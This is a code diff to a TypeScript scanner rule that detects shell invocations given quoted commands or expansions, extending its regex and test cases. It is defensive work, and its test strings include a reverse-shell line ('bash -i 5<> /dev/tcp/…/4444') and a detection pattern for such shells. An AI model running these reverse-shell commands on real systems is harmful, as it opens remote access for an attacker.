@@ -2,18 +2,19 @@ import { LOWER, UPPER, literal, oneOf } from '../byte-classes.ts';
 import { BLANKS, QUOTE, WORD_START, matchAt } from '../expression.ts';
 import { defineRule } from '../rule.ts';
 
-const OPTIONS = String.raw`(?:(?:[-+][A-Za-z]{1,16}(?:${BLANKS}pipefail)?|--[a-z][a-z-]{1,32})${BLANKS}){0,8}`;
+const OPTIONS = String.raw`(?:(?:[-+][A-Za-z]{1,16}|[-+][A-Za-z]{0,15}[oO]${BLANKS}[a-z_]{1,32}|--[a-z][a-z-]{1,32})${BLANKS}){0,8}`;
 
 const COMMAND = new RegExp(
-  String.raw`(?<=(${WORD_START}(?:ba|da|z|k|a)?))sh${BLANKS}${OPTIONS}(?:-[A-Za-z]{0,8}[ci][A-Za-z]{0,8}${BLANKS}?\$?${QUOTE}|-i${BLANKS}?(?:[0-9]?>&?|&>)${BLANKS}?/dev/(?:tcp|udp)/)`,
+  String.raw`(?<=(${WORD_START}(?:ba|da|z|k|a)?))sh${BLANKS}${OPTIONS}(?:-[A-Za-z]{0,8}[ci][A-Za-z]{0,8}(?:${BLANKS}?(?:\$?${QUOTE}|&(?:quot|#34|#39|#x27);)|${BLANKS}\$[A-Za-z_({])|-i${BLANKS}?(?:[0-9]{0,3}<?>&?|&>)${BLANKS}?/dev/(?:tcp|udp)/)`,
   'y',
 );
 
 /** Bytes of options a glance reads through. */
 const MAX_GLANCED = 48;
 
-/** `-o` takes a word: `pipefail`. */
-const LETTER_P = 0x70;
+/** `-o` and `-O` take a word: `pipefail`. */
+const LETTER_O = 0x6f;
+const UPPER_CASE = 0x20;
 const TAB = 0x09;
 const LF = 0x0a;
 const SPACE = 0x20;
@@ -44,7 +45,7 @@ function mayTakeCommand(bytes: Uint8Array, at: number): boolean {
     }
     if (byte === SPACE || byte === TAB) byte = bytes[++here] ?? LF;
     if (UNCLEAR.has(byte)) return true;
-    if (isLetter(byte)) return byte === LETTER_P;
+    if (isLetter(byte)) return ((bytes[here - 2] ?? 0) | UPPER_CASE) === LETTER_O;
     if (!SIGNS.has(byte)) return takesCommand;
     takesCommand = false;
   }
@@ -52,7 +53,7 @@ function mayTakeCommand(bytes: Uint8Array, at: number): boolean {
 }
 
 /**
- * A shell given a command in quotation marks, by any POSIX shell. The list form of APIs (`["bash","-lc","…"]`) is how
+ * A shell given a command in quotation marks or an expansion, by any POSIX shell. The list form of APIs (`["bash","-lc","…"]`) is how
  * agents call their own tools and no alarm. `bash -i >& /dev/tcp/…` counts, the best known use of `-i`.
  */
 export const shellExec = defineRule({
@@ -76,6 +77,11 @@ export const shellExec = defineRule({
     String.raw`{"cmd":"/bin/bash -c \"id\""}`,
     'docker exec -it web sh -c "ls"',
     "bash -lc 'make'",
+    'bash -c $(cat /tmp/x)',
+    'sh -c $CMD',
+    '<code>bash -c &quot;id&quot;</code>',
+    'bash -O extglob -c "id"',
+    'bash -i 5<> /dev/tcp/198.51.100.7/4444',
     'zsh   -e  -c  "echo x"',
     'bash --noprofile --norc -eo pipefail -c "make"',
     String.raw`{"text":"run:\nbash -c 'id'"}`,
@@ -95,6 +101,8 @@ export const shellExec = defineRule({
     'the option of bash - "c" - takes a command',
     'Spanish - English',
     'Bash -C "x"',
+    'sh -c costs $5',
+    'bash -e {0} -c "x"',
   ],
   source: 'bash(1), dash(1): INVOCATION.',
 });
